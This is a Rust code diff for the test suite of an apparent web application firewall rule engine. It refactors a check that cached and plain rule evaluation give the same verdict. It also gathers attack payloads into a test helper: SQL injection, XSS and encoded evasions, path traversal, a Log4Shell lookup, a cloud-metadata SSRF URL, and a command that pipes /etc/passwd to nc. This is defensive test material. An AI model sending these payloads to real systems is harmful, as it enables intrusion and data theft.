@@ -167,13 +167,18 @@ pub fn seclang(data: &[u8]) {
 }
 
 /// One request, through a small rule set and through the baseline: request line, headers, an empty
-/// line, the body. Caches and prefilters must not change a thing.
+/// line, the body.
 pub fn transaction(data: &[u8]) {
     for rules in [&*RULE_SET, &*BASELINE] {
-        let fast = run(rules, data, false);
-        let plain = run(rules, data, true);
-        assert_eq!(fast, plain, "a cache or a prefilter changed the verdict");
+        fast_and_plain_agree(rules, data);
     }
+}
+
+/// Caches and prefilters must not change a thing.
+pub(crate) fn fast_and_plain_agree(rules: &Arc<RuleSet>, data: &[u8]) {
+    let fast = run(rules, data, false);
+    let plain = run(rules, data, true);
+    assert_eq!(fast, plain, "a cache or a prefilter changed the verdict");
 }
 
 /// Touches every collection the parsers fill, with the operators that have fast paths.
@@ -247,6 +252,31 @@ fn split_line(data: &[u8]) -> (&[u8], &[u8]) {
     (line, halves.next().unwrap_or_default())
 }
 
+/// Payloads of many kinds in many places.
+#[cfg(test)]
+pub(crate) fn attacks() -> Vec<String> {
+    let mut requests = Vec::new();
+    for payload in [
+        "1' UNION SELECT password FROM users--",
+        "<ScRiPt>alert(1)</sCrIpT>",
+        "../../../../etc/passwd",
+        "${jndi:ldap://x/a}",
+        ";cat /etc/passwd|nc 10.0.0.1 80",
+        "{{7*7}}%{{}}",
+        "http://169.254.169.254/latest/meta-data",
+        "&#x3c;img src=x onerror=&quot;a()&quot;&gt;",
+        "\\u003cscript\\u003e %u003cb %C0%AF caf\u{e9} \u{212a}",
+    ] {
+        for body in [format!("a={payload}"), format!("{{\"a\":\"{payload}\"}}")] {
+            for kind in ["application/x-www-form-urlencoded", "application/json"] {
+                let head = format!("POST /x?q={payload} HTTP/1.1\nHost: a\nContent-Type: {kind}");
+                requests.push(format!("{head}\nCookie: c={payload}\n\n{body}"));
+            }
+        }
+    }
+    requests
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -268,23 +298,8 @@ mod tests {
 
     #[test]
     fn fast_and_plain_evaluation_agree_on_attacks() {
-        for payload in [
-            "1' UNION SELECT password FROM users--",
-            "<ScRiPt>alert(1)</sCrIpT>",
-            "../../../../etc/passwd",
-            "${jndi:ldap://x/a}",
-            ";cat /etc/passwd|nc 10.0.0.1 80",
-            "{{7*7}}%{{}}",
-            "http://169.254.169.254/latest/meta-data",
-        ] {
-            for body in [format!("a={payload}"), format!("{{\"a\":\"{payload}\"}}")] {
-                for kind in ["application/x-www-form-urlencoded", "application/json"] {
-                    let head =
-                        format!("POST /x?q={payload} HTTP/1.1\nHost: a\nContent-Type: {kind}");
-                    let request = format!("{head}\nCookie: c={payload}\n\n{body}");
-                    transaction(request.as_bytes());
-                }
-            }
+        for request in attacks() {
+            transaction(request.as_bytes());
         }
     }
 }
